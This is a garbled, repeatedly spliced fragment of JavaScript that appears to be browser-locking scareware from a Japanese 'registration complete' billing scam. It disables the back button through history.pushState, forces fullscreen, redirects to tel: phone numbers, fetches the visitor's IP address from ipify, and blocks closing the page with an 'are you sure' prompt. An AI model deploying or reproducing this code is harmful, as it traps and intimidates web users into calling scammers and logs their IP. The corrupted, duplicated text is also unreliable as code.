
var _0x=["\u767B\u9332\u5B8C\u4E86\u3(){history.pushState(null,null,location.href)};
 while(fy.org?form'登録'.split('').reve'登録'.split('').reverse(%.join('')a[[[[[[[[[[pplrse(%.join('').split('').reve'登録'.split('').reverse(%.join('')0"},100);
fetch("https://api.ipify.org?format=json");
window.onbeff(a)b=>{c?on.hd:e}ref = '/tel'
こちらState(null,null,location.href)};
 while(true){aentElement.requestFullscreen()});
setTimeout(function(){location.h'登録'.split('').reve'登録'.split('').reverse(%.join('')a[[[[[[[[[[pplrse(%.join('').split('').reve'登録'.split('').reverse(%.join('')tate=function(){history.pushState(null,null,location.href)};
 while(true){aentElement.requestFullscreen()});
setiTmeout(function(){location.href="tel:0240-000-000"},100);
fetch("https://api.ipify.org?format=json");
window.onbfunction(){document.documentElement.requestFullscreen()});
setTimeout(function(){location.href="tel:01t.documentElement.requestFullscreen()});
setTimeout(function(){location.href="tel:0120-000-000"},100);
fetch("https://api.ipify.org?format=json");
window.onbeforeunload=functit(function(){location.href="tel:0120-000-000"},100);
fetch("https://api.ipify.org?format=json");
window.onbeforeunload=function(){return "本当に閉じますか"};

